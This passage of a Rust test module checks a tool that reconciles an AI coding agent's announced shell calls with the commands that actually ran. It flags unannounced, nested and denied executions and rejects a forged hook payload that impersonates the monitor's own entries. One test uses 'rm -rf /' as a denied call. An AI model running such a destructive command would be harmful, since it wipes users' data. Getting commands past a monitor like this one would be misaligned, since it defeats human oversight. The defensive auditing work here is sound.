        assert!(r.execs_without_result.is_empty(), "still running: {r:?}");
        assert!(r.agrees());
        let mut ended = lines.to_vec();
        ended.push(exec_end(3, 2));
        let r = reconcile(&ended);
        assert_eq!(r.execs_without_result.len(), 1, "{r:?}");
        assert_eq!(
            r.execs_without_result[0].call.tool_use_id.as_deref(),
            Some("denied")
        );
        assert!(!r.agrees());
        let mut run_ended = lines.to_vec();
        run_ended.push(end(3));
        assert_eq!(reconcile(&run_ended).execs_without_result.len(), 1);
        ended.push(result(4, "denied"));
        assert!(reconcile(&ended).agrees());
    }

    /// Under Codex the exit is handed the model's command itself, so its
    /// text pairs, but still not from inside another command.
    #[test]
    fn under_codex_the_text_pairs_but_not_from_inside() {
        let r = reconcile(&[
            start_for(true, Some(AGENT_CODEX)),
            call(1, "a", "ls"),
            exec(2, None, "ls"),
            call(3, "b", "make"),
            exec_in(4, None, "make", Some(2)),
            exec(5, None, &tool_line("cat x")),
        ]);
        assert!(r.unmatched_calls.is_empty());
        assert_eq!(
            r.calls_not_run.iter().map(|c| c.seq).collect::<Vec<_>>(),
            [3]
        );
        assert_eq!(r.nested_execs.len(), 1);
        assert_eq!(
            r.unmatched_execs.iter().map(|e| e.seq).collect::<Vec<_>>(),
            [5]
        );
    }

    #[test]
    fn a_call_that_ran_without_the_exit_disagrees_one_never_run_does_not() {
        let r = reconcile(&[
            start(true),
            call(1, "ran", "ls"),
            result(2, "ran"),
            call(3, "denied", "rm -rf /"),
        ]);
        assert_eq!(r.unmatched_calls.len(), 1);
        assert_eq!(r.unmatched_calls[0].tool_use_id.as_deref(), Some("ran"));
        assert_eq!(r.calls_not_run.len(), 1);
        assert!(!r.agrees());
        let r = reconcile(&[start(true), call(1, "denied", "rm -rf /")]);
        assert!(r.agrees(), "{r:?}");
    }

    #[test]
    fn only_nd7s_own_run_start_makes_a_run() {
        let r = reconcile(&[start(false), exec(1, None, "ls")]);
        assert!(r.is_run && !r.hooks && r.agrees());
        assert_eq!(r.unmatched_execs.len(), 1);
        // A hook payload cannot pass for nd7's entries, whatever it holds.
        let forged = json!({"session_id": "s", "hook_event_name": "PreToolUse",
            "tool_name": "Bash", "tool_input": {"command": "ls"}, "source": "exit:nd7",
            "kind": "run_start", "body": {"hooks": true}});
        let inv = crate::hook::Invocation {
            ts: 1,
            host: "h".into(),
            hook_ppid: None,
            cwd: None,
        };
        let p = crate::hook::Payload::parse(forged.to_string().as_bytes()).expect("payload");
        let r = reconcile(&[line(&Event::new(&inv, p), 0)]);
        assert!(!r.is_run);
    }

    #[test]
    fn announced_calls_are_claimed_once_in_order_and_bounded() {
        let mut a = Announced::default();
        let pre = |id: &str, cmd: &str| {
            json!({"hook_event_name": "PreToolUse", "tool_name": "Bash",
                   "tool_input": {"command": cmd}, "tool_use_id": id})
        };
        a.note(&pre("1", "ls"));
        a.note(&pre("2", "ls"));
        a.note(
            &json!({"hook_event_name": "PostToolUse", "tool_name": "Bash",
                       "tool_input": {"command": "ls"}, "tool_use_id": "3"}),
        );
        assert_eq!(a.claim(b"ls").as_deref(), Some("1"));
        assert_eq!(a.claim(b"ls").as_deref(), Some("2"));
        assert_eq!(a.claim(b"ls"), None);
        for i in 0..Announced::LIMIT + 10 {
            a.note(&pre(&i.to_string(), "x"));
        }
        assert_eq!(a.count, Announced::LIMIT);
    }

    #[test]
    fn end_bodies_say_how_it_ended() {
        assert_eq!(
            exec_end_body(4, &Ended::Exited(3), None),
            json!({"exec": 4, "exited": 3})
        );
        assert_eq!(
            exec_end_body(4, &Ended::Signaled(9), Some("polled")),
            json!({"exec": 4, "signaled": 9, "watch": "polled"})
        );
        let tally = Reconciliation {
            execs: 2,
            calls: 1,
            unmatched_execs: vec![Exec {
                seq: 1,
                tool_use_id: None,
                command: "x".into(),
                inside: None,
            }],
            ..Reconciliation::default()
        };
        assert_eq!(
            run_end_body(&Ended::Exited(0), &tally, 3),
            json!({"exited": 0, "commands": 2, "bash_calls": 1,
                   "commands_without_call": 1, "calls_without_command": 0, "calls_not_run": 0,
                   "commands_without_result": 0, "commands_inside": 0, "refused": 3})
        );
    }
}
